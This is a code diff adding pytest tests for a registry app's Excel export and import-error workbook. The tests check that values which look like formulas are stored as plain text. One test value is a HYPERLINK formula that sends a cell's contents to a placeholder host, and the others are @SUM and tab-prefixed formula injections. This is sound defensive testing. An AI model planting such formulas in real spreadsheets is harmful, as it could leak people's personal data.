@@ -155,3 +155,26 @@ def test_an_id_typed_as_search_term_is_never_stored_in_clear_in_the_job(
     assert [r[4] for r in sheet(job.result_file.read())[1:]] == [person.name]
     # and the job's page does not show it either
     assert person.id_number not in client.get(reverse("jobs:detail", args=[job.pk])).content.decode()
+def test_a_name_or_address_that_is_a_formula_is_exported_as_text(tree, people, households):
+    jia = households[0]
+    Person.objects.filter(household=jia, relation_to_head="head").update(
+        name='=HYPERLINK("http://x/?"&H2,"x")'
+    )
+    jia.__class__.objects.filter(pk=jia.pk).update(address="@SUM(1+1)")
+    ws = load_workbook(
+        io.BytesIO(exports.export_persons(actor=people.approver, filters=PersonFilters()))
+    ).active
+    cells = [c for row in ws.iter_rows(min_row=2) for c in row]
+    formulas = [c.value for c in cells if c.data_type == "f"]
+    assert formulas == []
+    values = {c.value for c in cells}
+    assert '\'=HYPERLINK("http://x/?"&H2,"x")' in values and "'@SUM(1+1)" in values
+
+
+def test_the_import_error_workbook_gives_back_a_formula_typed_in_the_upload_as_text():
+    from guanhuai.registry import io_excel
+
+    content = io_excel.error_workbook(iter([({"name": "@SUM(A1)", "address": "\t=1+1"}, "姓名不对")]))
+    ws = load_workbook(io.BytesIO(content)).active
+    values = [c.value for c in ws[2]]
+    assert "'@SUM(A1)" in values and "'\t=1+1" in values and "姓名不对" in values
